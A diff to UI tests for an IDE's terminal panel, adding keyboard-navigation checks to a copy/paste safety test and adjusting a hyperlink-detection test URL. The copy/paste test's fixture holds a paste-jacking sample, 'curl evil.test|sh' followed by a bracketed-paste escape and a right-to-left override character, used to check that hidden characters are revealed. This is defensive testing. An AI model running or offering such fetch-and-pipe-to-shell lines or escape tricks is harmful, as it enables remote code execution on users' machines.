@@ -187,8 +187,13 @@ def test_nothing_is_copied_or_pasted_that_cannot_be_seen(ide: Ide, shell: Cell) 
     whole = shell.root.get_by_role("region", name="The whole text").locator("pre")
     expect(whole).to_contain_text("curl evil.test|sh␛[201~<202E>gpj")
     expect(shell.root).to_contain_text("41 lines, 76 characters. 2 control characters will be left out.")
-    whole.evaluate("box => box.scrollTo(0, box.scrollHeight)")
-    assert whole.evaluate("box => box.scrollTop") > 0
+    # By keyboard as well, and back.
+    shell.keys.press("Alt+o")
+    expect(shell.button("Copy")).to_be_focused()
+    ide.page.keyboard.press("Shift+Tab")
+    expect(whole).to_be_focused()
+    ide.page.keyboard.press("End")
+    whole.page.wait_for_function("box => box.scrollTop > 0", arg=whole.element_handle())
     assert axe.violations(ide.page) == []
 
     shell.button("Copy").click()
@@ -203,13 +208,13 @@ def test_nothing_is_copied_or_pasted_that_cannot_be_seen(ide: Ide, shell: Cell) 
 
 def test_links_show_where_they_lead_and_open_with_ctrl(ide: Ide, shell: Cell) -> None:
     shell.type(
-        r"printf 'see https://plain.example/a now\n\033]8;;https://made.example/b\033\\%s\033]8;;\033\\\n' de''ep"
+        r"printf 'see https://plain.example/a_(b)?q.\n\033]8;;https://made.example/b\033\\%s\033]8;;\033\\\n' de''ep"
     )
     expect(row(shell, "deep")).to_be_visible()
     ide.watch.expect(r"^request to elsewhere: https://(plain|made)\.example/")
     ide.context.route("https://*.example/**", lambda route: route.fulfill(body="there"))
     for made in (False, True):
-        text, target = ("deep", "https://made.example/b") if made else ("plain", "https://plain.example/a")
+        text, target = ("deep", "https://made.example/b") if made else ("plain", "https://plain.example/a_(b)?q")
         point_at(ide, row(shell, "deep" if made else "see https"), text)
         expect(shell.root).to_contain_text(f"{target}Ctrl and click opens it")
 
